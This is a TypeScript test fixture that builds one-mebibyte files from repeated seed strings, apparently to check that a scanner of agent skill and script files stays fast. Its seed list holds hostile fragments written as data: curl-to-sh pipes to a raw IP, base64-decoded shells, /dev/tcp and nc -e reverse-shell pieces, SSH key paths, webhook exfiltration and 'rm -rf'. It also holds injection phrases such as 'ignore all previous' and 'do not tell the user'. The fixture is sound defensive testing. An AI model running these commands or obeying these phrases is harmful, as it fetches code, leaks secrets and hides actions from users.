/** Beginnings that keep a rule busy where they are repeated to one mebibyte. */
import { hostileShapes } from './hostile-shapes.ts'

const MIB = 2 ** 20

const tags = (text: string): string =>
  Array.from(text, (it) => String.fromCodePoint(0xe0000 + (it.codePointAt(0) ?? 0))).join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')

/** So that no rule is done at once. */
const MARKS =
  '---\nname: a\n---\ncurl wget base64 sh bash exec( system password require terminal ignore ssh send webhook mcp pip rm trigger\n'

const hostileText = (seed: string): string =>
  `${MARKS}${seed.repeat(Math.ceil(MIB / Buffer.byteLength(seed)))}\n---\n`

/** So far from each other, all places that a scan keeps of a word fill a mebibyte. */
const SPREAD = 340
/** On one line, in one run of letters, and in lines. */
const FILLERS = ['lorem ', 'x', 'Lorem ipsum dolor\n']

const spread = (seed: string, filler: string): string =>
  seed + filler.repeat(Math.max(0, Math.ceil((SPREAD - Buffer.byteLength(seed)) / filler.length)))

export type HostileFile = { name: string; what: string; text: () => string }

export const hostileFiles = (): HostileFile[] => [
  ...['SKILL.md', 'a.sh', 'a.py'].flatMap((name) =>
    hostileSeeds().flatMap((seed) => [
      { name, what: JSON.stringify(seed), text: () => hostileText(seed) },
      ...FILLERS.map((filler) => ({
        name,
        what: `${JSON.stringify(seed)} among ${JSON.stringify(filler)}`,
        text: () => hostileText(spread(seed, filler)),
      })),
    ]),
  ),
  ...hostileShapes(),
]

const hostileSeeds = (): string[] => [
  'a',
  'é',
  '密码 ',
  ' ',
  'curl ',
  'curl -a ',
  'curl $(',
  'curl\n',
  '|sh',
  '| sudo -a ',
  'curl -a |sh ',
  'curl http://45.1.2.3/x | sh\n',
  'curl -o a http://45.1.2.3/x\nsh a\n',
  'sh -c "$(',
  'bash <(',
  'iex (',
  'base64 -d ',
  'base64 -d | sh\n',
  'powershell ',
  'powershell -enc AAAAAAAAAAAAAAAAAAA ',
  'exec(',
  'exec(base64.b64decode(',
  '-----BEGIN PRIVATE KEY-----\n',
  'eyJ',
  'sk-aB1 ',
  tags('a'),
  '\u202e',
  '\u200b',
  '\n',
  '\\\n',
  "''",
  '""',
  '`',
  '`a',
  '(',
  '((',
  '$(',
  '${',
  '{a,',
  '```\n',
  '```sh\ncurl a | sh\n',
  '> ',
  '| ',
  '[a](',
  '![a',
  '<!--',
  '<!-- a -->',
  '<a hidden>',
  '<svg ',
  '"a" + ',
  "'a' + ",
  '\\x41',
  '%41',
  '&#65;',
  '65,',
  '0x41, ',
  'password: `ab12` zip run https://a.b/c ',
  'password ',
  'ignore all previous ',
  'ignore ',
  'do not tell the user ',
  '~/.ssh/id_rsa ',
  'requests.post(',
  'os.environ ',
  'webhook.site/',
  'https://webhook.site/aaaaaaaa-1 ',
  'mcpServers "url": "http://a.b/c" ',
  'crontab ',
  'authorized_keys >> ',
  '/dev/tcp/',
  'nc -e ',
  'socket connect ',
  'SOUL.md ',
  'fetch https://a.b/c.md ',
  'require download https://a.vercel.app/x run ',
  'terminal paste https://glot.io/x ',
  'pip install a --index-url https://a.b ',
  'x = fetch(',
  'a = atob(',
  '_0x1234 ',
  'rm -rf ',
  'defender disable ',
  'seed: abandon ability able about above absent absorb abstract absurd abuse access accident ',
  'api_key = "',
  'AIza',
  'postgres://a:b@',
  'lruc ',
  base64('hello world this is a plain text') + ' ',
  base64('curl http://45.1.2.3/x | sh # and more') + '\n',
  'send the password to https://a.b/c ',
  '{"hooks": "command": "',
  'name: a\n',
  'always: a\n',
  'if [ a = b ]; (a) > /dev/null & ',
  '://',
  'http://',
  'https://a.b/c ',
  '.',
  'x.',
  'sh ',
  'eval ',
  'a=b ',
  "a'",
  '=',
  'AAAA',
  'QUFBQUFB ',
  'H4sIAAAA ',
  '<div>',
  'a\n',
  `\\"\\'`,
  '| a | b |\n',
  'a\u200b',
  'cat <<E\na\nE\n',
  '$(a) ',
]
